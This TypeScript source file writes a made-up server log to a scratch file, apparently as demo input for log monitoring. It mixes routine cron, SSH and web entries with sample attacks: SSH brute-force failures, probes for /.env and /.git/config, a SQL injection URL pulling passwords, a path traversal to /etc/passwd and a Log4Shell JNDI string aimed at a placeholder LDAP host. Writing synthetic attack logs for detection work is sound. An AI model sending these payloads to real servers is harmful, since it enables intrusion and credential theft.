/** The demonstration: a made-up stretch of a server's day with attacks in it, written to a scratch log as time goes by. */
import { appendFileSync, writeFileSync } from 'node:fs';

const HOST = 'demo-host';
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const TICK_MS = 250;

/** One made-up visitor: what it writes at each turn. */
type Actor = (turn: number, stamp: Stamps) => string | null;

interface Stamps {
  readonly syslog: string;
  readonly clf: string;
}

const pages = ['/', '/about', '/blog', '/img/logo.svg', '/pricing', '/docs/start'];
const names = ['admin', 'test', 'oracle', 'postgres', 'guest', 'pi', 'ubuntu', 'deploy', 'git', 'hadoop'];
const probes = ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/cgi-bin/luci', '/actuator/health'];

const actors: readonly Actor[] = [
  (turn, { syslog }) =>
    turn % 9 === 0
      ? `${syslog} ${HOST} CRON[${2000 + turn}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`
      : null,
  (turn, { syslog }) =>
    turn % 31 === 0
      ? `${syslog} ${HOST} sshd[${3000 + turn}]: Accepted publickey for alice from 192.0.2.10 port ${40_000 + turn} ssh2: ED25519 SHA256:demo`
      : null,
  (turn, { clf }) =>
    `192.0.2.${20 + (turn % 40)} - - [${clf}] "GET ${pages[turn % pages.length]} HTTP/1.1" 200 ${900 + turn} "-" "Mozilla/5.0 (demo)"`,
  (turn, { syslog }) =>
    turn % 40 < 12
      ? `${syslog} ${HOST} sshd[${4000 + turn}]: Failed password for root from 203.0.113.${7 + (Math.floor(turn / 40) % 200)} port ${50_000 + (turn % 9000)} ssh2`
      : null,
  (turn, { syslog }) =>
    turn % 90 > 60 && turn % 90 < 75
      ? `${syslog} ${HOST} sshd[${5000 + turn}]: Failed password for invalid user ${names[turn % names.length]} from 198.51.100.${1 + (Math.floor(turn / 90) % 200)} port ${51_000 + (turn % 9000)} ssh2`
      : null,
  (turn, { clf }) =>
    turn % 120 > 40 && turn % 120 < 52
      ? `203.0.113.${200 + (Math.floor(turn / 120) % 50)} - - [${clf}] "GET ${probes[turn % probes.length]} HTTP/1.1" 404 153 "-" "demo-scanner/1.0"`
      : null,
  (turn, { clf }) =>
    turn % 150 === 77
      ? `198.51.100.${210 + (Math.floor(turn / 150) % 40)} - - [${clf}] "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20 HTTP/1.1" 200 512 "-" "Mozilla/5.0 (demo)"`
      : null,
  (turn, { clf }) =>
    turn % 170 === 99
      ? `203.0.113.${150 + (Math.floor(turn / 170) % 40)} - - [${clf}] "GET /../../../../etc/passwd HTTP/1.1" 400 150 "-" "Mozilla/5.0 (demo)"`
      : null,
  (turn, { clf }) =>
    turn % 210 === 130
      ? `198.51.100.${100 + (Math.floor(turn / 210) % 40)} - - [${clf}] "GET /?x=\${jndi:ldap://198.51.100.250/a} HTTP/1.1" 404 153 "-" "-"`
      : null,
  (turn, { syslog }) =>
    turn % 100 > 20 && turn % 100 < 36
      ? `${syslog} ${HOST} kernel: [ 1000.${100_000 + turn}] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=203.0.113.${100 + (Math.floor(turn / 100) % 40)} DST=192.0.2.1 LEN=40 TOS=0x00 PREC=0x00 TTL=50 ID=1 PROTO=TCP SPT=40000 DPT=${20 + (turn % 100)} WINDOW=1024 RES=0x00 SYN URGP=0`
      : null,
];

/** Appends lines with the present time until the signal aborts or `limit` lines are written. */
export async function writeDemo(path: string, limit: number, signal: AbortSignal): Promise<void> {
  writeFileSync(path, '');
  let turn = 0;
  for (let written = 0; written < limit && !signal.aborted; ) {
    const stamp = stampsOf(new Date());
    const lines: string[] = [];
    for (let n = 0; n < 5; n++, turn++)
      for (const actor of actors) lines.push(...[actor(turn, stamp)].filter((line) => line !== null));
    appendFileSync(path, `${lines.join('\n')}\n`);
    written += lines.length;
    await new Promise((resolve) => setTimeout(resolve, TICK_MS));
  }
}

function stampsOf(date: Date): Stamps {
  const two = (value: number): string => String(value).padStart(2, '0');
  const clock = `${two(date.getHours())}:${two(date.getMinutes())}:${two(date.getSeconds())}`;
  const offset = -date.getTimezoneOffset();
  const zone = `${offset < 0 ? '-' : '+'}${two(Math.floor(Math.abs(offset) / 60))}${two(Math.abs(offset) % 60)}`;
  const month = MONTHS[date.getMonth()]!;
  return {
    syslog: `${month} ${String(date.getDate()).padStart(2)} ${clock}`,
    clf: `${two(date.getDate())}/${month}/${date.getFullYear()}:${clock} ${zone}`,
  };
}
